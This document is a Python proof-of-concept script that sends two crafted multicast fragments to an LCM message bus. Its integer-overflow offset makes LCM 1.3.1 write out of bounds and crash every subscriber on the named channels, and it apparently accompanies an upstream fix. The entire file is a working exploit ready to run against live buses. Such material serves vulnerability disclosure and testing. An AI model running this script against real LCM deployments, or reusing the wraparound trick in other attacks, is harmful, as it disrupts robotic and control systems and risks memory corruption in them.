#!/usr/bin/env python3
"""Sends two fragments to an LCM bus that crash whoever has subscribed to their channel with LCM 1.3.1 (upstream pull request 628).

usage: crashing_fragments.py GROUP PORT CHANNEL...

The first begins a message of 100 bytes. The second says that it belongs 16 bytes below 4 GB: offset and length together wrap round to
less than 100, so LCM finds that it fits, and writes it 4 GB behind its buffer.
"""
import socket
import struct
import sys

FRAGMENT, SIZE, FRAGMENTS = 0x4C433033, 100, 3


def fragment(sequence, offset, number, data):
    return struct.pack(">IIIIHH", FRAGMENT, sequence, SIZE, offset, number, FRAGMENTS) + data


def main():
    group, port = sys.argv[1], int(sys.argv[2])
    bus = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    bus.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 0)
    for sequence, channel in enumerate(sys.argv[3:]):
        bus.sendto(fragment(sequence, 0, 0, channel.encode() + b"\0" + bytes(50)), (group, port))
        bus.sendto(fragment(sequence, (1 << 32) - 16, 1, bytes(32)), (group, port))


if __name__ == "__main__":
    main()
